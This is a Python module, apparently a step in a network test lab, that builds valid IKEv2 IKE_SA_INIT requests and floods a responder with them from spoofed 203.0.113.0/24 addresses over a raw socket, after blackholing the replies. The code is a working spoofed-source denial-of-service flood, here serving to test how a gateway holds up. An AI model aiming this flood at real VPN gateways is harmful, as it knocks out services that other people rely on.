# SPDX-License-Identifier: Apache-2.0
"""A flood of IKE_SA_INIT requests from spoofed addresses: well-formed, never answered any further."""

import os
import socket
import struct

from . import ip
from .space import pause


def payload(following, body):
    return struct.pack("!BBH", following, 0, len(body) + 4) + body


def transform(last, kind, number, attributes=b""):
    body = struct.pack("!BBH", kind, 0, number) + attributes
    return payload(0 if last else 3, body)


def init_request():
    """AES-128-CBC, SHA-256, group 19: what a real gateway would have to answer (RFC 7296 1.2)."""
    transforms = (
        transform(False, 1, 12, struct.pack("!HH", 0x800E, 128))
        + transform(False, 2, 5)
        + transform(False, 3, 12)
        + transform(True, 4, 19)
    )
    proposal = payload(0, struct.pack("!BBBB", 1, 1, 0, 4) + transforms)
    chain = (
        payload(34, proposal) + payload(40, struct.pack("!HH", 19, 0) + point()) + payload(0, os.urandom(32))
    )
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(chain)) + chain


P256 = 2**256 - 2**224 + 2**192 + 2**96 - 1
P256_B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B


def point():
    """A random point of the curve P-256, so that the responder does not refuse the value (RFC 6989 2.3)."""
    while True:
        x = int.from_bytes(os.urandom(32)) % P256
        square = (x**3 - 3 * x + P256_B) % P256
        y = pow(square, (P256 + 1) // 4, P256)
        if y * y % P256 == square:
            return x.to_bytes(32) + y.to_bytes(32)


def datagram(source, target, data):
    length = 8 + len(data)
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    pseudo = addresses + struct.pack("!BBH", 0, 17, length) + struct.pack("!HHHH", 500, 500, length, 0) + data
    udp = struct.pack("!HHHH", 500, 500, length, ip.checksum(pseudo) or 0xFFFF) + data
    return ip.header(source, target, socket.IPPROTO_UDP, length) + udp


def step(stage, count, addresses="250"):
    """flood COUNT [ADDRESSES]: spoofed initiators of 203.0.113.0/24 towards the responder"""
    # the answers go nowhere, silently
    stage.space.run("router", "ip", "route", "replace", "blackhole", "203.0.113.0/24")
    raw = stage.space.raw_socket("initiator", socket.IPPROTO_RAW)
    target = stage.space.path.address["responder"]
    for number in range(int(count)):
        source = f"203.0.113.{1 + number % int(addresses)}"
        raw.sendto(datagram(source, target, init_request()), (target, 0))
        pause(0.004)
    raw.close()
